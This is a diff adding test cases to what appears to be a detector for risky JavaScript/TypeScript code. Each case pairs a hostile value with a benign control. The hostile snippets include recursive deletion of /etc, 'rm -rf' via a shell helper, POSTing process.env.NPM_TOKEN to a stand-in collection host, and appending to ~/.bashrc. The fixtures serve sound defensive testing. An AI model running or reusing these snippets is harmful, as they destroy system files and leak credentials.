@@ -124,6 +124,53 @@ export const VALUES: JavaScriptCases = {
       "import { Pool } from 'pg';\nconst pool = new Pool({ connectionString: process.env.DATABASE_URL, ssl: { rejectUnauthorized: false } });\nawait pool.query('select 1');",
     ],
   ],
+  "results, matches and entries of directories": [
+    ...twins(
+      "fs.delete_tree path.system_sensitive",
+      "import { ok, Result } from 'neverthrow';\nimport { rmSync } from 'node:fs';\nconst r: Result<string, Error> = ok('@@').map((x) => x + '/x');\nr.match((p) => rmSync(p, { recursive: true, force: true }), console.error);",
+      "/etc",
+      "./build",
+    ),
+    ...twins(
+      "fs.delete_tree path.system_sensitive",
+      "import { match } from 'ts-pattern';\nimport { rmSync } from 'node:fs';\nmatch({ type: '@@', path: '/etc' } as const)\n  .with({ type: 'rm' }, ({ path }) => rmSync(path, { recursive: true, force: true }))\n  .with({ type: 'ls' }, ({ path }) => console.log(path))\n  .exhaustive();",
+      "rm",
+      "ls",
+    ),
+    ...twins(
+      "fs.delete path.system_sensitive",
+      "import { readdir, unlink } from 'node:fs/promises';\nconst entries = await readdir('@@', { withFileTypes: true, recursive: true });\nawait Promise.all(entries.filter((e) => e.isFile()).map((e) => unlink(`${e.parentPath}/${e.name}`)));",
+      "/etc",
+      "./tmp",
+    ),
+  ],
+  "clients by their builders": [
+    ...twins(
+      "net.send env.secret",
+      "import { $fetch } from 'ofetch';\nconst api = $fetch.create({ baseURL: 'https://collect.example.net' });\nawait api('/in', { method: 'POST', body: { k: @@ } });",
+      "process.env.NPM_TOKEN",
+      "process.uptime()",
+    ),
+    ...twins(
+      "net.send env.secret",
+      "import wretch from 'wretch';\nawait wretch('https://collect.example.net').url('/in').post({ k: @@ }).res();",
+      "process.env.NPM_TOKEN",
+      "process.uptime()",
+    ),
+    ...twins(
+      "net.send env.secret",
+      "import { GraphQLClient } from 'graphql-request';\nconst client = new GraphQLClient('https://collect.example.net');\nawait client.request('mutation ($k: String!) { keep(k: $k) }', { k: @@ });",
+      "process.env.NPM_TOKEN",
+      "String(process.uptime())",
+    ),
+    ...twins("process.exec command.destructive", "import $ from 'dax';\nawait $`rm -rf @@`;", "/etc", "./build"),
+    ...twins(
+      "fs.write path.persistence",
+      "import { appendFile } from 'node:fs/promises';\nimport untildify from 'untildify';\nawait appendFile(untildify('@@'), 'alias ll=ls\\n');",
+      "~/.bashrc",
+      "./notes.txt",
+    ),
+  ],
   "other runtimes and shells": [
     ...twins(
       "fs.write path.persistence",
